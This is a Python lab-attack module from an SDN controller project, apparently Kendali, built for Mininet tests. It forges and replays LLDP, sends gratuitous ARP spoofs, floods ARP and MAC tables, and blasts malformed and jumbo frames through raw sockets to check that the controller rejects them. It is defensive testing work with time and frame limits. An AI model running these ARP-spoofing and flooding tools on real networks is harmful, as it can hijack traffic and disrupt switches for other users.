"""Hostile hosts for lab tests: forged and replayed LLDP, gratuitous ARP, ARP and MAC floods.

What a PC in an OPD can do to the intranet without any privilege on a switch, so the lab
can show that the controller does not believe it (tests/test_lab_trust.py). Each command
runs inside a Mininet host (capture-lldp in the root namespace, on a switch's port), is
bounded in frames and in seconds, stops by itself and prints one JSON line saying what
it sent::

    python -m controller.lab.attack forge-lldp --iface h3-eth0 --dpid 1 --port 2 --seconds 5
    python -m controller.lab.attack capture-lldp --iface t5s1-eth1 --out /tmp/lldp.bin
    python -m controller.lab.attack replay --iface h3-eth0 --frame /tmp/lldp.bin --seconds 5
    python -m controller.lab.attack garp --iface h3-eth0 --mac 02:.. --ip 10.20.1.10 --seconds 5
    python -m controller.lab.attack arp-flood --iface h3-eth0 --src-net 10.20.6.0/23 --seconds 8
    python -m controller.lab.attack mac-flood --iface h3-eth0 --macs 5000 --seconds 8
    python -m controller.lab.attack malformed --iface h3-eth0 --seconds 5 --rate 1000

Frames are built with scapy (the test extra); sending uses one raw AF_PACKET socket, so a
flood goes as fast as Python can hand pre-built frames to the kernel. Needs root. Never
imported by the controller.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time
from pathlib import Path
from typing import Any

from scapy.contrib.lldp import LLDPDUChassisID, LLDPDUEndOfLLDPDU, LLDPDUPortID, LLDPDUTimeToLive
from scapy.layers.inet import IP, UDP
from scapy.layers.l2 import ARP, Ether

from controller.core.compiler import GATEWAY_MAC
from controller.core.frames import CHASSIS_PREFIX, KENDALI_OUI, MAX_FRAME, PROOF_LEN, PROOF_SUBTYPE

LLDP_MAC = "01:80:c2:00:00:0e"  # nearest bridge: what Kendali's own LLDP is sent to
ETH_P_LLDP = 0x88CC
ETH_P_ALL = 0x0003
BROADCAST = "ff:ff:ff:ff:ff:ff"
# Bounds every command keeps, whatever it is asked: a test that forgets to stop an
# attacker must not leave it running into the next test.
MAX_SECONDS = 60.0
MAX_FRAMES = 5_000_000


# ---------------------------------------------------------------- frames


def forged_lldp(src_mac: str, dpid: int, port: int) -> bytes:
    """LLDP in the format Kendali's controller sends (controller/core/frames.py lldp_frame), claiming
    to come from switch ``dpid``, port ``port``: chassis ``kendali:<16 hex digits>``
    (locally assigned), port id the port number in decimal (port component), TTL 10."""
    frame = (
        Ether(dst=LLDP_MAC, src=src_mac, type=ETH_P_LLDP)
        / LLDPDUChassisID(subtype=LLDPDUChassisID.SUBTYPE_LOCALLY_ASSIGNED, id=b"kendali:%016x" % dpid)
        / LLDPDUPortID(subtype=LLDPDUPortID.SUBTYPE_PORT_COMPONENT, id=b"%d" % port)
        / LLDPDUTimeToLive(ttl=10)
        / LLDPDUEndOfLLDPDU()
    )
    return bytes(frame)


def kendali_lldp_source(frame: bytes) -> tuple[int, int] | None:
    """(dpid, port) that a Kendali LLDP frame claims to come from; None for anything else."""
    try:
        eth = Ether(frame)
    except Exception:  # scapy raises many kinds on garbage
        return None
    if eth.type != ETH_P_LLDP:
        return None
    chassis, port = eth.getlayer(LLDPDUChassisID), eth.getlayer(LLDPDUPortID)
    if chassis is None or port is None:
        return None
    cid = bytes(chassis.id) if not isinstance(chassis.id, str) else chassis.id.encode()
    pid = bytes(port.id) if not isinstance(port.id, str) else port.id.encode()
    if not cid.startswith(b"kendali:"):
        return None
    try:
        return int(cid[8:], 16), int(pid)
    except ValueError:
        return None


def gratuitous_arp(mac: str, ip: str) -> bytes:
    """An unsolicited ARP reply: "ip is at mac", sent from mac to everyone."""
    return bytes(Ether(src=mac, dst=BROADCAST) / ARP(op=2, hwsrc=mac, psrc=ip, hwdst=BROADCAST, pdst=ip))


def random_macs(n: int, rng: random.Random) -> list[str]:
    """n distinct random unicast, locally administered MACs (never a real vendor's)."""
    seen: set[str] = set()
    while len(seen) < n:
        b = bytearray(rng.getrandbits(8) for _ in range(6))
        b[0] = (b[0] & 0xFC) | 0x02  # unicast, locally administered
        seen.add(":".join(f"{x:02x}" for x in b))
    return sorted(seen, key=lambda _m: rng.random())


def _random_ips(net: ipaddress.IPv4Network, n: int, rng: random.Random) -> list[str]:
    hosts = net.num_addresses - 2 if net.prefixlen < 31 else net.num_addresses
    base = int(net.network_address) + (1 if net.prefixlen < 31 else 0)
    return [str(ipaddress.IPv4Address(base + rng.randrange(hosts))) for _ in range(n)]


def _mac_bytes(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def arp_flood_frames(n: int, src_net: str, seed: int = 1) -> list[bytes]:
    """n ARP requests, each from its own random MAC and a random address of src_net,
    asking for another random address of src_net (a flood of new "hosts").

    One frame is built by scapy; the others are copies with the addresses patched in
    (building each with scapy would take seconds)."""
    rng = random.Random(seed)
    net = ipaddress.IPv4Network(src_net, strict=False)
    macs, srcs, dsts = random_macs(n, rng), _random_ips(net, n, rng), _random_ips(net, n, rng)
    template = bytearray(
        bytes(Ether(src=macs[0], dst=BROADCAST) / ARP(op=1, hwsrc=macs[0], psrc=srcs[0], pdst=dsts[0]))
    )
    out = []
    for m, sip, dip in zip(macs, srcs, dsts, strict=True):
        f = bytearray(template)
        mb = _mac_bytes(m)
        f[6:12] = mb  # Ethernet source
        f[22:28] = mb  # ARP sender hardware address
        f[28:32] = ipaddress.IPv4Address(sip).packed  # ARP sender protocol address
        f[38:42] = ipaddress.IPv4Address(dip).packed  # ARP target protocol address
        out.append(bytes(f))
    return out


def mac_flood_frames(n: int, seed: int = 2) -> list[bytes]:
    """n small UDP frames, each from its own random source MAC to a random unicast MAC
    (what macof does to fill a learning switch's table); one IP header for all."""
    rng = random.Random(seed)
    srcs, dsts = random_macs(n, rng), random_macs(n, rng)
    template = bytes(
        Ether(src=srcs[0], dst=dsts[0])
        / IP(src="198.51.100.1", dst="198.51.100.2")
        / UDP(sport=40000, dport=9)
        / b"kendali-lab"
    )
    return [_mac_bytes(d) + _mac_bytes(s) + template[12:] for s, d in zip(srcs, dsts, strict=True)]


# ---------------------------------------------------------------- malformed frames

ETH_ARP, ETH_IP = 0x0806, 0x0800
ETH_8021Q, ETH_8021AD = 0x8100, 0x88A8
# A 9000-byte MTU's largest frame, and one longer than any frame the controller accepts.
JUMBO_SIZES = (9018, MAX_FRAME + 84)
# Never a lab host: if the controller ever took a tagged ARP frame's payload as real,
# this "host" would appear in its topology, where a test sees it.
CANARY_MAC = "02:4b:ba:d0:00:01"
CANARY_IP = "10.99.0.1"


def _eth(dst: str, src: str, ethertype: int, tags: tuple[tuple[int, int], ...] = ()) -> bytes:
    """An Ethernet header; ``tags`` are (TPID, VLAN id) pairs, outermost first."""
    return (
        _mac_bytes(dst)
        + _mac_bytes(src)
        + b"".join(struct.pack("!HH", tpid, vid) for tpid, vid in tags)
        + struct.pack("!H", ethertype)
    )


def _tlv(kind: int, value: bytes, length: int | None = None) -> bytes:
    """An LLDP TLV; a ``length`` other than len(value) makes it lie about its size."""
    return struct.pack("!H", (kind << 9) | (len(value) if length is None else length)) + value


def _kendali_chassis(dpid: int = 1) -> bytes:
    return b"\x07" + CHASSIS_PREFIX + b"%016x" % dpid


def _lldp_body(
    chassis: bytes | None = None, port: bytes = b"\x021", proof: bytes | None = bytes(PROOF_LEN), end: bool = True
) -> bytes:
    """Chassis, port and TTL TLVs as Kendali writes them, a proof TLV (all zeros unless
    given: never a valid one) and the End TLV."""
    body = _tlv(1, _kendali_chassis() if chassis is None else chassis) + _tlv(2, port) + _tlv(3, b"\x00\x0a")
    if proof is not None:
        body += _tlv(127, KENDALI_OUI + bytes([PROOF_SUBTYPE]) + proof)
    return body + (_tlv(0, b"") if end else b"")


def _arp_body(
    mac: str, ip: str, htype: int = 1, ptype: int = ETH_IP, hlen: int = 6, plen: int = 4, op: int = 1
) -> bytes:
    """28 bytes laid out as an Ethernet/IPv4 ARP request from (mac, ip) for ip, whatever the
    header fields claim."""
    addr = ipaddress.IPv4Address(ip).packed
    return struct.pack("!HHBBH", htype, ptype, hlen, plen, op) + _mac_bytes(mac) + addr + bytes(6) + addr


def _ipv4_header(src: str, dst: str, payload: int = 0) -> bytes:
    return bytes(IP(src=src, dst=dst, proto=17, len=20 + payload))


def malformed_frames(src_mac: str, src_ip: str, seed: int = 3, ipv4_dst: str = CANARY_IP) -> list[tuple[str, bytes]]:
    """(kind, frame) for every odd frame a host can send that reaches, or might reach, the
    controller: truncated, lying about lengths, with wrong header fields, Kendali-looking
    with garbage ids or a proof of the wrong length, VLAN-tagged (802.1Q, 802.1ad, QinQ),
    and random bytes after each ethertype the controller reads. Every one must be dropped.

    Frames come from ``src_mac``; the few that a parser without checks could take as
    well-formed ARP claim the sender's own address, or the canary, so a controller that
    accepted one shows it in its topology. IPv4 frames go to the gateway MAC for
    ``ipv4_dst`` (an address of a declared subnet that no host has reaches the controller
    in routed mode, if the switch can read the header). Deterministic for a seed."""
    rng = random.Random(seed)
    lldp, arp, ipv4 = (
        _eth(LLDP_MAC, src_mac, ETH_P_LLDP),
        _eth(BROADCAST, src_mac, ETH_ARP),
        _eth(GATEWAY_MAC, src_mac, ETH_IP),
    )
    out: list[tuple[str, bytes]] = []

    good_arp = arp + _arp_body(src_mac, src_ip)
    out += [("arp-truncated", good_arp[:n]) for n in range(14, len(good_arp))]
    out += [
        ("arp-bad-fields", arp + _arp_body(src_mac, src_ip, **f))
        for f in ({"htype": 6}, {"ptype": 0x86DD}, {"hlen": 8}, {"plen": 16}, {"op": 0}, {"op": 3}, {"op": 0xFFFF})
    ]

    kendali = lldp + _lldp_body()
    out += [("lldp-truncated", kendali[:n]) for n in range(14, len(kendali))]
    chassis, port, ttl, end = _tlv(1, _kendali_chassis()), _tlv(2, b"\x021"), _tlv(3, b"\x00\x0a"), _tlv(0, b"")
    out += [
        ("lldp-tlv-overrun", lldp + b)
        for b in (
            _tlv(1, _kendali_chassis(), length=511),  # claims 511 bytes, has 25
            chassis + _tlv(2, b"\x021", length=300) + ttl + end,
            chassis + port + ttl + _tlv(127, KENDALI_OUI + bytes([PROOF_SUBTYPE]), length=200),
            chassis + port + ttl + _tlv(0, b"", length=5),  # an End TLV with a length, and nothing after it
        )
    ]
    out += [
        ("lldp-no-end", lldp + b)
        for b in (_lldp_body(end=False), _lldp_body(proof=None, end=False), _lldp_body(end=False) + b"\x00")
    ]
    out += [
        ("lldp-wrong-tlvs", lldp + b)
        for b in (
            end,
            ttl + chassis + port + end,
            chassis + ttl + end,
            chassis + port + end,
            port + chassis + ttl + end,
        )
    ]
    k = b"\x07" + CHASSIS_PREFIX
    out += [
        ("lldp-garbage-ids", lldp + _lldp_body(chassis=c))
        for c in (k, k + b"zz", k + b"\xff\xfe\xfd", k + b"1" * 17, k + b"-1", k + b" " * 16, k + b"\x00" * 16)
    ]
    out += [
        ("lldp-garbage-ids", lldp + _lldp_body(port=p))
        for p in (b"\x02", b"\x02abc", b"\x02\xff", b"\x020", b"\x02-7", b"\x02%d" % 0xFFFFFF00, b"\x02" + b"9" * 500)
    ]
    out += [("lldp-proof-length", lldp + _lldp_body(proof=bytes(n))) for n in (0, 1, PROOF_LEN - 1, PROOF_LEN + 1, 400)]

    for name, tags in (
        ("vlan-8021q", ((ETH_8021Q, 10),)),
        ("vlan-8021q-prio", ((ETH_8021Q, 0),)),
        ("vlan-8021ad", ((ETH_8021AD, 10),)),
        ("vlan-qinq", ((ETH_8021AD, 10), (ETH_8021Q, 20))),
    ):
        out.append((f"{name}-lldp", _eth(LLDP_MAC, src_mac, ETH_P_LLDP, tags) + _lldp_body()))
        out.append((f"{name}-arp", _eth(BROADCAST, src_mac, ETH_ARP, tags) + _arp_body(CANARY_MAC, CANARY_IP)))

    header = _ipv4_header(src_ip, ipv4_dst)
    out += [("ipv4-short", ipv4 + header[:n]) for n in (0, 1, 10, 19)]
    # Version 6, a header length of 4 words, of 15 words (60 bytes; 20 there), version 0.
    out += [("ipv4-bad-header", ipv4 + bytes([first]) + header[1:]) for first in (0x65, 0x44, 0x4F, 0x00)]
    out += [("ipv4-bad-header", ipv4 + header[:2] + struct.pack("!H", n) + header[4:]) for n in (0, 10, 0xFFFF)]

    for ethertype, dst in (
        (ETH_P_LLDP, LLDP_MAC),
        (ETH_ARP, BROADCAST),
        (ETH_IP, GATEWAY_MAC),
        (ETH_8021Q, BROADCAST),
        (ETH_8021AD, BROADCAST),
    ):
        out += [
            (f"random-{ethertype:04x}", _eth(dst, src_mac, ethertype) + rng.randbytes(rng.randrange(121)))
            for _ in range(8)
        ]
    return out


def jumbo_frames(src_mac: str, src_ip: str, seed: int = 4, ipv4_dst: str = CANARY_IP) -> list[tuple[str, bytes]]:
    """LLDP, ARP, IPv4 and 802.1Q-tagged LLDP frames of each of JUMBO_SIZES bytes ("jumbo-*"
    up to MAX_FRAME, "oversized-*" beyond): Kendali-looking LLDP (a proof of zeros) padded
    after its End TLV, ARP with operation 0, IPv4 to the gateway MAC whose header is right."""
    rng = random.Random(seed)
    out = []
    for size in JUMBO_SIZES:
        label = "jumbo" if size <= MAX_FRAME else "oversized"
        ip_payload = size - 14 - 20
        for kind, head in (
            ("lldp", _eth(LLDP_MAC, src_mac, ETH_P_LLDP) + _lldp_body()),
            ("arp", _eth(BROADCAST, src_mac, ETH_ARP) + _arp_body(src_mac, src_ip, op=0)),
            ("ipv4", _eth(GATEWAY_MAC, src_mac, ETH_IP) + _ipv4_header(src_ip, ipv4_dst, ip_payload)),
            ("vlan-lldp", _eth(LLDP_MAC, src_mac, ETH_P_LLDP, ((ETH_8021Q, 10),)) + _lldp_body()),
        ):
            out.append((f"{label}-{kind}", head + rng.randbytes(size - len(head))))
    return out


# ---------------------------------------------------------------- sending


def _socket(iface: str) -> socket.socket:
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    return sock


def blast(iface: str, frames: list[bytes], seconds: float, max_frames: int, rate: float = 0.0) -> dict[str, Any]:
    """Send frames round-robin as fast as possible (or at ``rate`` per second) until
    ``seconds`` or ``max_frames``; frames the kernel refuses (queue full) are counted."""
    seconds, max_frames = min(seconds, MAX_SECONDS), min(max_frames, MAX_FRAMES)
    sock = _socket(iface)
    sent = refused = 0
    n = len(frames)
    t0 = time.monotonic()
    deadline = t0 + seconds
    # Frames between clock reads: the clock costs as much as a send. Paced, as few as the
    # rate allows: 64 jumbo frames at once overrun the switch's receive buffer (~200 kB).
    batch = max(1, min(64, int(rate // 1000))) if rate else 64
    try:
        while sent + refused < max_frames:
            now = time.monotonic()
            if now >= deadline:
                break
            if rate and sent + refused > (now - t0) * rate:
                time.sleep(min(0.001, deadline - now))
                continue
            for _ in range(min(batch, max_frames - sent - refused)):
                try:
                    sock.send(frames[(sent + refused) % n])
                    sent += 1
                except OSError:  # ENOBUFS: the interface queue is full; that frame is lost
                    refused += 1
    finally:
        sock.close()
    took = time.monotonic() - t0
    return {
        "sent": sent,
        "refused": refused,
        "seconds": round(took, 3),
        "rate_pps": round(sent / took) if took else 0,
        "distinct_frames": n,
    }


def every(iface: str, frame: bytes, interval: float, seconds: float) -> dict[str, Any]:
    """Send one frame every ``interval`` seconds for ``seconds``."""
    seconds = min(seconds, MAX_SECONDS)
    sock = _socket(iface)
    sent = 0
    t0 = time.monotonic()
    nxt = t0
    try:
        while time.monotonic() - t0 < seconds:
            sock.send(frame)
            sent += 1
            nxt += interval
            delay = nxt - time.monotonic()
            if delay > 0:
                time.sleep(delay)
    finally:
        sock.close()
    return {"sent": sent, "seconds": round(time.monotonic() - t0, 3), "interval": interval}


def capture_lldp(iface: str, timeout: float = 5.0, dpid: int | None = None) -> tuple[bytes, tuple[int, int]]:
    """The first Kendali LLDP frame seen on ``iface`` (either direction), and where it
    claims to come from; from switch ``dpid`` only if given. Raises TimeoutError."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((iface, 0))
    sock.settimeout(0.2)
    deadline = time.monotonic() + min(timeout, MAX_SECONDS)
    try:
        while time.monotonic() < deadline:
            try:
                frame = sock.recv(2048)
            except TimeoutError:
                continue
            if len(frame) < 14 or frame[12:14] != ETH_P_LLDP.to_bytes(2, "big"):
                continue
            src = kendali_lldp_source(frame)
            if src is not None and (dpid is None or src[0] == dpid):
                return frame, src
    finally:
        sock.close()
    raise TimeoutError(f"no Kendali LLDP frame on {iface} within {timeout:g} s")


def _iface_mac(iface: str) -> str:
    return Path(f"/sys/class/net/{iface}/address").read_text().strip()


def _iface_ipv4(iface: str) -> str:
    """The interface's IPv4 address (SIOCGIFADDR), 0.0.0.0 if it has none."""
    import fcntl

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            packed = fcntl.ioctl(s.fileno(), 0x8915, struct.pack("256s", iface.encode()[:15]))
        except OSError:
            return "0.0.0.0"
    return socket.inet_ntoa(packed[20:24])


def select_kinds(frames: list[tuple[str, bytes]], kinds: str) -> list[tuple[str, bytes]]:
    """The frames whose kind starts with one of the comma-separated prefixes (all if none)."""
    prefixes = tuple(k.strip() for k in kinds.split(",") if k.strip())
    return [f for f in frames if not prefixes or f[0].startswith(prefixes)]


def malformed(
    iface: str,
    seconds: float,
    max_frames: int,
    rate: float,
    src_ip: str | None = None,
    kinds: str = "",
    ipv4_dst: str = CANARY_IP,
) -> dict[str, Any]:
    """Every malformed frame (and every jumbo one the interface's MTU lets out), round-robin
    in a fixed shuffled order so that even a short run sends every kind."""
    mac, ip = _iface_mac(iface), src_ip or _iface_ipv4(iface)
    mtu = int(Path(f"/sys/class/net/{iface}/mtu").read_text())
    frames = select_kinds(malformed_frames(mac, ip, ipv4_dst=ipv4_dst), kinds)
    jumbo = select_kinds(jumbo_frames(mac, ip, ipv4_dst=ipv4_dst), kinds)
    fits = [f for f in jumbo if len(f[1]) - 14 <= mtu]
    skipped = len(jumbo) - len(fits)
    frames += fits
    if not frames:
        raise SystemExit(f"no frame kind starts with any of {kinds!r}")
    random.Random(5).shuffle(frames)
    out = blast(iface, [f for _k, f in frames], seconds, max_frames, rate)
    per_kind: dict[str, int] = {}
    for kind, _f in frames:
        per_kind[kind] = per_kind.get(kind, 0) + 1
    out["kinds"] = dict(sorted(per_kind.items()))
    out["mtu"] = mtu
    if skipped:
        need = max(len(f) for _k, f in jumbo) - 14
        out["skipped"] = f"{skipped} jumbo frames: {iface} MTU {mtu}, they need {need}"
    return out


# ---------------------------------------------------------------- command line


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m controller.lab.attack", description=__doc__.split("\n\n")[0])
    sub = ap.add_subparsers(dest="cmd", required=True)

    def bounded(p: argparse.ArgumentParser, seconds: float, interval: float | None = None) -> None:
        p.add_argument("--iface", required=True)
        p.add_argument("--seconds", type=float, default=seconds)
        if interval is not None:
            p.add_argument("--interval", type=float, default=interval)

    p = sub.add_parser("forge-lldp", help="LLDP claiming to come from another switch's port")
    bounded(p, 5.0, 0.05)
    p.add_argument("--dpid", type=lambda s: int(s, 0), required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--src-mac", help="default: the interface's own MAC")
    p = sub.add_parser("capture-lldp", help="save one genuine Kendali LLDP frame seen on an interface")
    p.add_argument("--iface", required=True)
    p.add_argument("--out", type=Path, required=True)
    p.add_argument("--timeout", type=float, default=5.0)
    p.add_argument("--dpid", type=lambda s: int(s, 0), help="only a frame from this switch")
    p = sub.add_parser("replay", help="send a saved frame again and again")
    bounded(p, 5.0, 0.05)
    p.add_argument("--frame", type=Path, required=True)
    p = sub.add_parser("garp", help="gratuitous ARP replies claiming another host's MAC and IP")
    bounded(p, 5.0, 0.2)
    p.add_argument("--mac", required=True)
    p.add_argument("--ip", required=True)
    p = sub.add_parser("arp-flood", help="ARP requests from random MACs and addresses, as fast as possible")
    bounded(p, 8.0)
    p.add_argument("--src-net", required=True, help="random sender addresses from this network")
    p.add_argument("--macs", type=int, default=20000, help="distinct random sender MACs")
    p.add_argument("--max-frames", type=int, default=1_000_000)
    p.add_argument("--rate", type=float, default=0.0, help="frames per second (0: as fast as possible)")
    p = sub.add_parser("mac-flood", help="frames from thousands of random source MACs")
    bounded(p, 8.0)
    p.add_argument("--macs", type=int, default=5000)
    p.add_argument("--max-frames", type=int, default=1_000_000)
    p.add_argument("--rate", type=float, default=0.0)
    p = sub.add_parser("malformed", help="truncated, lying, VLAN-tagged, random and jumbo LLDP, ARP and IPv4 frames")
    bounded(p, 5.0)
    p.add_argument("--rate", type=float, default=1000.0, help="frames per second (0: as fast as possible)")
    p.add_argument("--max-frames", type=int, default=100_000)
    p.add_argument("--src-ip", help="default: the interface's own IPv4 address")
    p.add_argument(
        "--kinds",
        default="",
        help="only kinds starting with one of these (comma-separated), e.g. arp,vlan,jumbo; default: all",
    )
    p.add_argument("--ipv4-dst", default=CANARY_IP, help="destination of the IPv4 frames to the gateway MAC")
    a = ap.parse_args(argv)

    out: dict[str, Any]
    if a.cmd == "capture-lldp":
        frame, (dpid, port) = capture_lldp(a.iface, a.timeout, a.dpid)
        a.out.write_bytes(frame)
        out = {"captured": len(frame), "dpid": dpid, "port": port, "file": str(a.out)}
    elif a.cmd == "forge-lldp":
        mac = a.src_mac or _iface_mac(a.iface)
        out = every(a.iface, forged_lldp(mac, a.dpid, a.port), a.interval, a.seconds)
    elif a.cmd == "replay":
        out = every(a.iface, a.frame.read_bytes(), a.interval, a.seconds)
    elif a.cmd == "garp":
        out = every(a.iface, gratuitous_arp(a.mac, a.ip), a.interval, a.seconds)
    elif a.cmd == "arp-flood":
        out = blast(a.iface, arp_flood_frames(a.macs, a.src_net), a.seconds, a.max_frames, a.rate)
    elif a.cmd == "malformed":
        out = malformed(a.iface, a.seconds, a.max_frames, a.rate, a.src_ip, a.kinds, a.ipv4_dst)
    else:
        out = blast(a.iface, mac_flood_frames(a.macs), a.seconds, a.max_frames, a.rate)
    out["command"] = a.cmd
    json.dump(out, sys.stdout)
    sys.stdout.write("\n")
    return 0


if __name__ == "__main__":
    if os.geteuid() != 0:
        sys.exit("controller.lab.attack: raw sockets need root")
    sys.exit(main())
